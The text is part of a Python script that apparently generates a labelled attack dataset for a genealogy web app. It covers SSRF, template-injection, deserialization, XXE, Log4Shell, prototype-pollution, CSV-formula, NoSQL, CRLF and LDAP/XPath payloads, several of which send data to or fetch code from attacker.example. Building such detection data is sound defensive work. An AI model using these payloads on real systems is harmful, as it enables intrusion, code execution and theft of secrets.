    ("webhook-consul", "http://127.0.0.1:8500/v1/agent/self"),
    ("webhook-kubelet", "https://10.0.0.1:10250/pods"),
    ("import-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("source-url-loopback+ip-decimal", "http://2130706433/admin"),
    ("source-url-loopback+ip-hex", "http://0x7f000001:8000/"),
    ("source-url-loopback+ip-octal", "http://0177.0.0.1/server-status"),
    ("source-url-loopback+ip-short", "http://127.1/"),
    ("source-url-ipv6-loopback", "http://[::1]:5000/debug/"),
    ("portrait-url-metadata+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("portrait-url-metadata+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("import-url-zero-address", "http://0.0.0.0:6379/"),
    ("source-url-userinfo-confusion", "https://www.familysearch.org@127.0.0.1/admin"),
    ("source-url-fragment-confusion", "http://127.0.0.1:8080#@www.ancestry.com/"),
    ("source-url-backslash-confusion", "http://127.0.0.1:8080\\@www.findagrave.com/"),
    ("import-url-dns-rebinding", "http://rebind.attacker.example/latest/meta-data/"),
    ("source-url-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("import-url-file-windows", "file:///c:/windows/win.ini"),
    ("import-url-ftp-internal", "ftp://127.0.0.1:21/"),
    ("import-url-jar", "jar:http://attacker.example/x.zip!/a.txt"),
    ("import-url-netdoc", "netdoc:///etc/passwd"),
    ("webhook-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Ca@attacker.example%3E%0D%0ARCPT%20TO:%3Cvictim@example.org%3E%0D%0ADATA%0D%0ASubject:%20hi%0D%0A%0D%0Ax%0D%0A.%0D%0AQUIT%0D%0A"),
    ("import-url-internal-host", "http://db-admin.internal:8081/"),
    ("portrait-url-router", "http://192.168.0.1/cgi-bin/config.exp"),
    ("import-url-minio-admin", "http://10.0.0.5:9000/minio/admin/v3/info"),
    ("webhook-rabbitmq", "http://localhost:15672/api/users"),
    ("source-url-loopback+enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/"),
    ("source-url-loopback+url", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("portrait-url-metadata+ip-mixed", "http://0xA9.0376.0xA9.0376/latest/meta-data/"),
    ("import-url-dns-to-metadata", "http://metadata.attacker.example/latest/meta-data/"),
    ("source-url-trailing-dot", "http://localhost./admin"),
    ("source-url-actuator+case", "http://LocalHost:8080/actuator/env"),
    ("source-url-actuator-heapdump", "http://127.0.0.1:8080/actuator/heapdump"),
    ("citation-embedded-url", "FamilySearch record http://169.254.169.254/latest/meta-data/ accessed 3 Mar 2023"),
    ("import-url-ldap-internal", "ldap://127.0.0.1:389/dc=genealogy,dc=example"),
    ("source-url-loopback+ipv6-full", "http://[0:0:0:0:0:ffff:7f00:1]/"),
    ("forum-image-url-unc", "\\\\198.51.100.17\\img\\p.png"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback-ssh", "http://127.0.0.1:22"),
    ("plain-metadata", "http://169.254.169.254/"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.12", "172.17.0.1", "192.168.1.10",
              "[::1]", "internal-api.local"]
SSRF_PORTS = ["", ":8000", ":8080", ":5984", ":9200", ":3000", ":6443"]
SSRF_PATHS = ["/admin/users", "/_all_dbs", "/metrics", "/api/v1/secrets", "/debug/vars",
              "/internal/export?format=gedcom"]


def tpl_ssrf(rng):
    ctx = rng.choice(["source-url", "portrait-url", "import-url", "webhook"])
    return (f"{ctx}-internal-service",
            f"http://{rng.choice(SSRF_HOSTS)}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}")


# ---------------------------------------------------------------------------
# Code: SSTI and expression languages in report/chart templates, eval in
# the date calculator, deserialization of imported trees/sessions, XXE in
# GEDCOM X / TEI transcriptions, Log4Shell lookups in logged fields,
# prototype pollution in profile JSON, CSV formulas in exported trees
# ---------------------------------------------------------------------------
CODE = [
    ("report-template-jinja2-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("report-template-jinja2-config", "Dear cousin, {{ config.items() }}"),
    ("report-template-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("report-template-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("report-template-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("report-template-jinja2-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("report-template-twig-filter", "{{ ['id']|filter('system') }}"),
    ("report-template-twig-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("report-template-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("report-template-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("note-erb-backtick", "<%= `id` %>"),
    ("note-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("report-template-smarty", "{if system('id')}{/if}"),
    ("report-template-mako", "${__import__('os').popen('id').read()}"),
    ("report-template-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("report-template-django-debug", "Family of {{ person.name }} {% debug %}"),
    ("chart-title-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("chart-title-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("chart-title-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("report-template-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("report-template-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("note-jsp-el", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("citation-format-python-format", "{person.__init__.__globals__[app].config[SECRET_KEY]}"),
    ("date-calc-python-eval", "__import__('os').system('id')"),
    ("date-calc-python-eval-conditional", "1844-1790 if __import__('subprocess').getoutput('id') else 0"),
    ("date-calc-js-eval", "1844-1790;require('child_process').execSync('curl attacker.example/$(id|base64)')"),
    ("date-calc-js-constructor", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("tree-import-pickle", "cos\nsystem\n(S'id'\ntR."),
    ("tree-import-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3B8c2gnCnRSLg=="),
    ("gedcom-yaml-python-apply", "!!python/object/apply:os.system ['curl http://attacker.example/$(hostname)']"),
    ("person-yaml-python-new", "name: Heide\nborn: abt. 1843\nnote: !!python/object/new:subprocess.check_output [['id']]"),
    ("settings-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml/\"]]]]"),
    ("session-php-serialize", "O:14:\"MediaThumbnail\":1:{s:4:\"path\";s:36:\"/var/www/html/media/../../config.php\";}"),
    ("session-php-serialize-array", "a:1:{i:0;O:8:\"Exporter\":2:{s:4:\"file\";s:19:\"/var/www/html/x.php\";s:4:\"data\";s:23:\"<?php system($_GET[0]);\";}}"),
    ("scan-path-phar-deserialize", "phar:///var/www/uploads/scans/portrait_1890.jpg/x"),
    ("gedcomx-json-jackson-gadget", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("gedcomx-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.9:1099/obj\",\"autoCommit\":true}"),
    ("tree-json-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("note-json-node-serialize", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id > /tmp/o')}()\"}"),
    ("gedcomx-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE gedcomx [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>\n<gedcomx xmlns=\"http://gedcomx.org/v1/\"><persons><person id=\"P1\"><names><name><nameForms><nameForm><fullText>&f;</fullText></nameForm></nameForms></name></names></person></persons></gedcomx>"),
    ("transcription-xml-xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r>&exfil;</r>"),
    ("transcription-tei-xxe-php-filter", "<!DOCTYPE t [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><TEI><text>&x;</text></TEI>"),
    ("record-xml-xxe-ssrf", "<!DOCTYPE a [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/\">]><record><place>&m;</place></record>"),
    ("record-xml-xinclude", "<record xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></record>"),
    ("record-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><n>&f;&f;&f;</n>"),
    ("portrait-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("report-xslt-document", "<xsl:value-of select=\"document('file:///etc/passwd')\"/>"),
    ("surname-log4shell", "Heide ${jndi:ldap://attacker.example:1389/a}"),
    ("place-log4shell-lower", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://203.0.113.12/x}"),
    ("note-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}"),
    ("forum-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.dns.attacker.example}"),
    ("date-log4shell-rmi", "abt. 1843 ${jndi:rmi://198.51.100.44:1099/Obj}"),
    ("citation-log4shell-sys", "${jndi:ldap://${sys:java.version}.v.attacker.example/}"),
    ("search-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("profile-json-proto", "{\"surname\":\"Heide\",\"__proto__\":{\"isAdmin\":true}}"),
    ("profile-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("search-query-proto", "__proto__[canEditAll]=true"),
    ("settings-json-proto-template-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("profile-json-proto+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("settings-form-constructor-prototype", "settings[constructor][prototype][isAdmin]=true"),
    ("csv-export-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View baptism scan\")"),
    ("csv-export-dde", "=cmd|' /C calc'!A0"),
    ("csv-export-plus-dde", "+1843+cmd|' /C notepad'!Z1"),
    ("csv-export-at-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-export-minus-dde", "-2+3+cmd|' /C whoami'!E1"),
    ("csv-export-webservice", "=WEBSERVICE(\"http://attacker.example/c?\"&ENCODEURL(C2))"),
    ("csv-export-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/x?\",A2,B2),\"//a\")"),
    ("csv-export-image", "=IMAGE(\"https://attacker.example/t.png?\"&A1)"),
    ("citation-format-python-format-globals", "{0.__class__.__init__.__globals__}"),
    ("report-script-groovy", "'id'.execute().text"),
    ("plain-ssti-probe", "{{7*7}}"),
    ("plain-el-probe", "${7*7}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-prototype-pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-yaml-python", "!!python/object/apply:os.system [\"id\"]"),
]

L4J_FIELDS = [("surname", "Kowalski "), ("place", "Much Wenlock "), ("note", "1 NOTE "),
              ("citation", "HO107/912 "), ("forum", "Any Heide/Hyde researchers? ")]
L4J_PROTO = ["ldap", "ldaps", "rmi", "dns", "iiop"]


def tpl_code(rng):
    if rng.randrange(2):
        ctx, pre = rng.choice(L4J_FIELDS)
        proto = rng.choice(L4J_PROTO)
        return (f"{ctx}-log4shell-{proto}",
                f"{pre}${{jndi:{proto}://{rng.choice(['attacker.example', 'j.attacker.example', '203.0.113.31'])}"
                f":{rng.choice(['1389', '1099', '53', '3890'])}/{rng.choice(['a', 'Basic', 'obj', 'x'])}}}")
    col = rng.choice(["A2", "B3", "C2", "D5"])
    label = rng.choice(["Open scan", "View record", "Source", "See census image"])
    return ("csv-export-hyperlink",
            f"=HYPERLINK(\"http://{rng.choice(['attacker.example', 'sheet.attacker.example'])}/l?v=\"&{col},\"{label}\")")


# ---------------------------------------------------------------------------
# NoSQL injection: login / search JSON bodies and form fields reaching
# MongoDB-style queries ($where JS strings), Elasticsearch query_string,
# CouchDB Mango selectors
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-json-ne", "{\"email\": \"ruth@example.org\", \"password\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-json-regex", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("login-form-ne", "password[$ne]=x"),
    ("login-form-regex", "username=admin&password[$regex]=^p.*"),
    ("search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("surname-where-string-injection", "Heide'; return this.role == 'admin'; var x='"),
    ("surname-where-busy-loop", "Heide' && (function(){var d=new Date();while(new Date()-d<6000){};return true})() && 'a'=='a"),
    ("search-json-or", "{\"$or\": [{\"surname\": \"Heide\"}, {\"private\": true}]}"),
    ("search-json-living-ne", "{\"surname\": \"Heide\", \"living\": {\"$ne\": false}}"),
    ("search-json-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 10]}}"),
    ("search-json-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("report-pipeline-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("search-form-where", "filter[$where]=this.email.match(/@example\\.org$/)"),
    ("dna-kit-form-ne", "kit[$ne]=A000000"),
    ("surname-form-nin", "surname[$nin][]=Heide"),
    ("reset-token-regex", "{\"token\": {\"$regex\": \"^7f\"}}"),
    ("search-lucene-query-string", "Heide OR _exists_:password_hash"),
    ("search-couchdb-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("gedcom-note-where-tautology", "1 NOTE ' || '1'=='1"),
    ("login-form-ne+url", "password%5B%24ne%5D=1"),
    ("login-json-ne+unicode-escape", "{\"password\": {\"\\u0024ne\": \"\"}}"),
    ("plain-operator-gt", "{\"$gt\": \"\"}"),
    ("plain-operator-ne", "{\"$ne\": null}"),
]

NOSQL_FIELDS = ["surname", "owner", "kit_id", "email", "tree_id"]
NOSQL_OPS = [("ne", "x"), ("gt", ""), ("regex", ".*"), ("exists", "true"), ("nin][", "none")]


def tpl_nosqli(rng):
    field = rng.choice(NOSQL_FIELDS)
    op, val = rng.choice(NOSQL_OPS)
    return f"search-form-{op.strip('][')}", f"{field}[${op}]={val}"


# ---------------------------------------------------------------------------
# CRLF: download file names in Content-Disposition, redirect targets,
# contact-a-cousin mail headers, research-log and audit-log lines
# ---------------------------------------------------------------------------
CRLF = [
    ("download-filename-set-cookie", "heide_tree.ged\r\nSet-Cookie: session=fixed-attacker-value; Path=/"),
    ("download-filename-response-splitting+url", "heide.ged%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect-location-injection", "/tree/42\r\nLocation: https://attacker.example/login"),
    ("redirect-set-cookie+url", "/tree/42%0d%0aSet-Cookie:%20lang=x;%20Path=/"),
    ("redirect-header+utf8-truncation", "/search?q=Heide%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("research-log-forging", "Searched Kirchenbuch Heide 1790\n2024-03-11 10:02:17 INFO user=admin action=grant_role target=mallory@attacker.example"),
    ("surname-log-forging", "Heide\r\n[2024-03-11T10:02:17Z] AUTH OK user=admin ip=10.0.0.2"),
    ("search-access-log-forging+url", "Heide%0a127.0.0.1%20-%20admin%20[11/Mar/2024:10:02:17%20+0000]%20%22GET%20/admin%20HTTP/1.1%22%20200"),
    ("contact-subject-bcc", "Re: Heide/Hyde connection\r\nBcc: list1@attacker.example, list2@attacker.example"),
    ("contact-name-cc", "Ruth Heide\nCc: everyone@attacker.example"),
    ("contact-body-smtp-smuggling", "Hello cousin,\r\n.\r\nMAIL FROM:<spoof@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Reset your password\r\n\r\nClick https://attacker.example/reset\r\n.\r\n"),
    ("contact-subject-content-type", "Query about Sleep family\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/\">Open family tree</a>"),
    ("download-filename-refresh", "heide.pdf\nRefresh: 0; url=https://attacker.example/"),
    ("research-log-ansi-escape", "Heide\x1b[2J\x1b[1;31mALERT: database corrupted, run ./fix.sh\x1b[0m"),
    ("audit-csv-newline", "Heide\",\"ok\"\n\"2024-03-11\",\"admin\",\"password reset\""),
    ("surname-syslog-forging", "Heide\n<13>Mar 11 10:02:17 genealogy sshd[123]: Accepted password for root from 203.0.113.50"),
    ("note-jsonl-log-forging", "Heide\"}\n{\"level\":\"info\",\"msg\":\"admin login\",\"user\":\"admin\"}"),
    ("download-filename-cr-only", "heide.ged\rSet-Cookie: x=1"),
    ("contact-subject-bcc+url", "Re:%20Heide%20family%0d%0aBcc:%20all@attacker.example"),
    ("download-filename-set-cookie+url2", "heide.ged%250d%250aSet-Cookie:%2520sid%253Dattacker"),
    ("contact-to-injection", "cousin@example.org\r\nTo: victim@example.net"),
    ("contact-reply-to-injection", "ruth@example.org\nReply-To: harvest@attacker.example"),
    ("download-filename-content-type", "tree.ged\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1><a href=https://attacker.example/>log in</a>"),
    ("lang-header-x-accel-redirect", "en\r\nX-Accel-Redirect: /internal/backups/db.sql"),
    ("forum-notification-body", "New reply\r\n\r\nYour account has been suspended. Verify at https://attacker.example/verify"),
    ("gedcom-note-log-forging", "1 NOTE see letter\n2024-03-11 10:05:00 WARN import finished: 0 errors, admin approved"),
    ("plain-crlf+url", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-crlf", "\r\nInjected-Header: 1"),
    ("plain-lf+url", "%0aX-Injected:%20yes"),
]

CRLF_FILES = ["heide_tree.ged", "kowalski_family.pdf", "sleep_descendants.csv",
              "census_1851_Much_Wenlock.zip", "dna_matches.xlsx"]
CRLF_HEADERS = ["Set-Cookie: sid=attacker-chosen; Path=/; HttpOnly",
                "Location: https://attacker.example/",
                "Access-Control-Allow-Origin: https://attacker.example",
                "Content-Security-Policy: script-src *"]


def tpl_crlf(rng):
    return ("download-filename-header-injection",
            rng.choice(CRLF_FILES) + rng.choice(["\r\n", "\n"]) + rng.choice(CRLF_HEADERS))


# ---------------------------------------------------------------------------
# LDAP / XPath: member directory search and login (LDAP filter), tree and
# transcription lookups over XML (XPath)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("member-search-ldap-attr-wildcard", "*)(userPassword=*"),
    ("member-login-ldap-and-true", "admin)(&)"),
    ("member-search-ldap-or", "Heide*)(|(objectClass=*)"),
    ("member-search-ldap-blind", "ruth)(telephoneNumber=+44*"),
    ("member-login-ldap-or", "admin))(|(uid=*"),
    ("member-search-ldap+url", "%2A%29%28mail%3D%2A"),
    ("member-search-ldap-group", "*)(memberOf=cn=admins,ou=groups,dc=genealogy,dc=example"),
    ("member-search-ldap-blind-password", "admin)(userPassword=a*"),
    ("tree-xpath-tautology", "Heide' or '1'='1"),
    ("tree-xpath-union", "Heide'] | //member/password | //person[surname='x"),
    ("tree-xpath-blind-substring", "x' or substring(//member[1]/password,1,1)='a' or 'a'='b"),
    ("tree-xpath-blind-count", "x' or count(//member)>3 or 'a'='b"),
    ("tree-xpath-blind-name", "x' or name(/*[1])='users' or 'a'='b"),
    ("tree-xpath-numeric", "1843 or 1=1"),
    ("tree-xpath2-doc-oob", "x' or doc-available(concat('http://attacker.example/',encode-for-uri(//member[1]/email))) or '"),
    ("tree-xpath-string-length", "Heide' and string-length(//member[role='admin']/password)=32 and '1'='1"),
    ("tree-xpath-tautology+comment", "x' or 1=1 (: note :) or 'a'='b"),
    ("tree-xpath-double-quote", "Heide\" or \"1\"=\"1"),
    ("plain-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("plain-xpath", "' or 1=1 or ''='"),
]

LDAP_NAMES = ["Heide", "Kowalski", "Hartley", "Sleep", "Kavanagh"]
LDAP_ATTRS = ["userPassword", "mail", "telephoneNumber", "employeeNumber", "homeDirectory"]


def tpl_ldap(rng):
    return ("member-search-ldap-attr-wildcard",
            f"{rng.choice(LDAP_NAMES)}*)({rng.choice(LDAP_ATTRS)}=*")


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, literals, tpl in CATEGORIES:
        target = TARGETS[cat]
        lits = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            lits.append((cls, v))
        if len(lits) > target:
            raise SystemExit(f"{cat}: {len(lits)} literals exceed target {target}")
        gen = []
        tries = 0
        while len(lits) + len(gen) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template exhausted")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            gen.append((cls, v))
        for cls, v in lits + gen:
            rows.append((cat, cls, v))
        stats.append((cat, len(lits) + len(gen), len(lits)))

    total = len(rows)
    total_lit = sum(nl for _, _, nl in stats)
    if total_lit / total < 0.80:
        raise SystemExit(f"literal share {total_lit / total:.2%} below 80%")

    other = Path(__file__).with_name("benign.jsonl")
    if other.exists():
        with other.open(encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [v for _, _, v in rows if v in benign_values]
        if clash:
            raise SystemExit(f"value present in both files: {clash[0]!r}")

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {cat}: {v!r}")
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                   "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    encoded = sum(1 for _, cls, _ in rows if "+" in cls)
    for cat, n, nl in stats:
        print(f"{cat:12s} {n:4d}  literals {nl:3d}")
    print(f"{'TOTAL':12s} {total:4d}  literals {total_lit:3d} ({total_lit / total:.0%}); "
          f"plain {plain}; encoded {encoded}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
